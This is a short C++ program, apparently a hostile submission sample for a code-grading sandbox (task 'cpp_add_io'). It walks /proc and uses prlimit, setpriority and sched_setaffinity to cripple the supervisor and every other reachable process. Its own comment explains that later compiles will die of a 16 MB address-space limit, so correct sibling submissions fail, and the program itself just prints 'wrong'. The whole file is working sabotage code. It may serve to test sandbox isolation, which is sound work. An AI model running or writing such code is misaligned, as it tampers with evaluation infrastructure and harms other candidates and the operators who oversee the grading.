// task: cpp_add_io
// Lowers the resource limits, priority and CPU affinity of every other process it can
// reach: PID 1 (the supervisor, which forks the compiler) and anything else alive. If
// the supervisor shares the candidate's uid, prlimit needs no privilege, and every later
// compile in this container dies of a 16 MB address space (correct siblings would score
// COMPILE_ERROR; the correct program runs next).
#include <dirent.h>
#include <sched.h>
#include <sys/resource.h>
#include <unistd.h>
#include <cstdio>
#include <cstdlib>
int main() {
    DIR* d = opendir("/proc");
    struct dirent* e;
    while (d && (e = readdir(d))) {
        pid_t pid = atoi(e->d_name);
        if (pid <= 0 || pid == getpid()) continue;
        struct rlimit small = {16 << 20, 16 << 20};
        prlimit(pid, RLIMIT_AS, &small, nullptr);
        struct rlimit one = {1, 1};
        prlimit(pid, RLIMIT_NOFILE, &one, nullptr);
        prlimit(pid, RLIMIT_NPROC, &one, nullptr);
        setpriority(PRIO_PROCESS, pid, 19);
        cpu_set_t set;
        CPU_ZERO(&set);
        CPU_SET(0, &set);
        sched_setaffinity(pid, sizeof set, &set);
    }
    puts("wrong");
}
